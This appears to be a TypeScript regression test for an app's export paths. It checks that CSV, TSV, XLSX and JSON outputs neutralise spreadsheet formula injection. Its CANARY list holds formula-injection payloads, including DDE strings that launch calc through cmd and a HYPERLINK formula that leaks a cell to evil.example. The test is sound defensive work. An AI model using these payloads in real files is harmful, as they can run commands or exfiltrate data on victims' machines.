// The audit's formula canary, as a regression test across every path that writes cells: search
// export (CSV, XLSX, JSON, NDJSON), bulk match export (CSV, XLSX) and Copy as TSV. Spreadsheet text
// formats (CSV, TSV) carry no cell that starts a formula; XLSX holds each value as exactly the text
// it is (a string cell, no apostrophe); JSON holds it unchanged.
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isFormulaLike, unneutraliseText } from '../../../../src/shared/export/cell-rules';
import { toTsv } from '../../../../src/shared/search/tsv';
import type { BulkJobView } from '../../../../src/shared/bridge/groups/match';
import type { FeatureDeps } from '../../../../src/main/platform/ports/feature-deps';
import { runExport } from '../../../../src/main/features/export/run-export';
import { createMatchFeature } from '../../../../src/main/features/match/feature';
import { DEFAULT_CSV } from '../../../../src/main/platform/tabular/csv';
import { ExportJournal } from '../../../../src/main/platform/tabular/journal';
import { FakeMatchApi, hit } from '../match/fake-api';
import { BODY, fakeApi } from './fake-api';

/** What the audit planted: formulas, DDE, a phone number, leading control characters, and both delimiters. */
export const CANARY = [
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '-1+1',
  '+49 30 1234567',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "'=already prefixed?",
  'a;=1+1',
  'b,=1+1',
];

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'fs-canary-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

const records = CANARY.map((text, i) => ({ company_id: `C${i}`, name: text, tags: [text, 'ok'], address: { city: text } }));

function expectCsvSafe(raw: string, delimiter: string, original: string[][]) {
  let unquoted = 0;
  const back = parse(raw, {
    delimiter,
    bom: true,
    // Every field holding , or ; is quoted in the file, whatever its delimiter.
    cast: (value, context) => {
      if (/[,;]/.test(value) && !context.quoting) unquoted++;
      return value;
    },
  }) as string[][];
  expect(unquoted).toBe(0);
  for (const row of back) for (const cell of row) expect(isFormulaLike(cell), JSON.stringify(cell)).toBe(false);
  expect(back.slice(1).map((r) => r.map(unneutraliseText))).toEqual(original);
}

async function readSheet(path: string, name: string): Promise<ExcelJS.Worksheet> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(path);
  return wb.getWorksheet(name)!;
}

describe('formula canary: search export', () => {
  const spec = (format: 'csv' | 'xlsx' | 'json' | 'ndjson', delimiter: ',' | ';' = ',') => ({
    id: `canary-${format}-${delimiter === ',' ? 'comma' : 'semi'}`,
    source: { kind: 'all' as const, body: BODY, pageSize: 5, rowLimit: 1_000 },
    format,
    columns: null,
    csv: { ...DEFAULT_CSV, delimiter },
    target: join(dir, `search-${delimiter === ',' ? 'comma' : 'semi'}.${format}`),
    spoolDir: join(dir, 'spool'),
    about: { query: 'canary', profile: 'P', startedAt: new Date() },
  });
  const run = (s: ReturnType<typeof spec>) => runExport(s, { api: fakeApi(records).api, signal: new AbortController().signal, onProgress: () => {}, journal: new ExportJournal(join(dir, 'journal')) });

  for (const delimiter of [',', ';'] as const) {
    it(`CSV (${delimiter}): no cell starts a formula, every value reads back`, async () => {
      await run(spec('csv', delimiter));
      const raw = await readFile(spec('csv', delimiter).target, 'utf8');
      expectCsvSafe(raw, delimiter, records.map((r) => [r.company_id, r.name, `${r.name}; ok`, r.name]));
    });
  }

  it('XLSX: each value is a string cell holding exactly the text (no apostrophe, no formula)', async () => {
    await run(spec('xlsx'));
    const ws = await readSheet(spec('xlsx').target, 'Companies');
    CANARY.forEach((text, i) => {
      const cell = ws.getRow(i + 2).getCell(2);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      // XML reads a CR as a line break: the one change XLSX makes (docs/export.md).
      expect(cell.value).toBe(text.replace(/\r\n?/g, '\n'));
    });
  });

  it('JSON and NDJSON: the values unchanged', async () => {
    await run(spec('json'));
    await run(spec('ndjson'));
    expect(JSON.parse(await readFile(spec('json').target, 'utf8'))).toEqual(records);
    const lines = (await readFile(spec('ndjson').target, 'utf8')).trimEnd().split('\n').map((l) => JSON.parse(l));
    expect(lines).toEqual(records);
  });
});

describe('formula canary: bulk match export', () => {
  async function runBulk() {
    const api = new FakeMatchApi((b) => hit(String(b.name), 0.9, { website: String(b.name) }));
    const events: BulkJobView[] = [];
    let ended!: (v: BulkJobView) => void;
    const done = new Promise<BulkJobView>((r) => (ended = r));
    const deps = {
      api: async () => api,
      activeProfile: () => null,
      settings: { read: (_k: string, _s: unknown, f: unknown) => f, write: () => {} },
      emit: ((group: string, name: string, payload: BulkJobView) => {
        if (group !== 'match' || name !== 'bulkProgress') return;
        events.push(payload);
        if (payload.state !== 'running') ended(payload);
      }) as FeatureDeps['emit'],
      shell: { kind: 'browser', chooseExportPath: async (name: string) => join(dir, name), revealFile: async () => {}, notify: () => {}, openExternal: async () => {} },
      dataDir: dir,
      now: () => Date.now(),
    } as unknown as FeatureDeps;
    const feature = createMatchFeature(deps);
    const ctx = { signal: new AbortController().signal };
    // The analyst's own key column holds the canary too; names are quoted in the input CSV.
    const csv = ['key,name', ...CANARY.filter((t) => !/[\r\n]/.test(t)).map((t) => `"${t.replaceAll('"', '""')}","${t.replaceAll('"', '""')}"`)].join('\n');
    const started = await feature.handlers.bulkStart({ csvText: csv, mapping: { name: 'name' }, concurrency: 2 }, ctx);
    expect(await done).toMatchObject({ id: started.id, state: 'done' });
    return { feature, id: started.id, ctx, inputs: CANARY.filter((t) => !/[\r\n]/.test(t)) };
  }

  it('CSV: no cell starts a formula; the key column and the company fields read back exactly', async () => {
    const { feature, id, ctx, inputs } = await runBulk();
    const out = await feature.handlers.bulkExport({ id, format: 'csv' }, ctx);
    const raw = await readFile(join(dir, out!.fileName), 'utf8');
    const [header, ...rows] = parse(raw) as string[][];
    for (const row of [header, ...rows]) for (const cell of row!) expect(isFormulaLike(cell), JSON.stringify(cell)).toBe(false);
    expect(rows.map((r) => unneutraliseText(r[0]!))).toEqual(inputs);
    // The fake service names the company after the (trimmed) name it was sent.
    expect(rows.map((r) => unneutraliseText(r[header!.indexOf('match.company.website')]!))).toEqual(inputs.map((t) => t.trim()));
  });

  it('XLSX: the key column and the company fields are string cells holding exactly the text', async () => {
    const { feature, id, ctx, inputs } = await runBulk();
    const out = await feature.handlers.bulkExport({ id, format: 'xlsx' }, ctx);
    const ws = await readSheet(join(dir, out!.fileName), 'Matches');
    const header = (ws.getRow(1).values as unknown[]).slice(1);
    const website = header.indexOf('match.company.website') + 1;
    inputs.forEach((text, i) => {
      for (const [col, want] of [[1, text], [website, text.trim()]] as const) {
        const cell = ws.getRow(i + 2).getCell(col);
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.value).toBe(want);
      }
    });
  });
});

describe('formula canary: Copy as TSV', () => {
  it('no pasted cell starts a formula', () => {
    const tsv = toTsv(records, ['company_id', 'name', 'tags', 'address.city']);
    const cells = parse(tsv, { delimiter: '\t', relax_quotes: true }) as string[][];
    for (const row of cells) for (const cell of row) expect(isFormulaLike(cell), JSON.stringify(cell)).toBe(false);
    expect(cells.slice(1).map((r) => unneutraliseText(r[1]!))).toEqual(CANARY);
  });
});
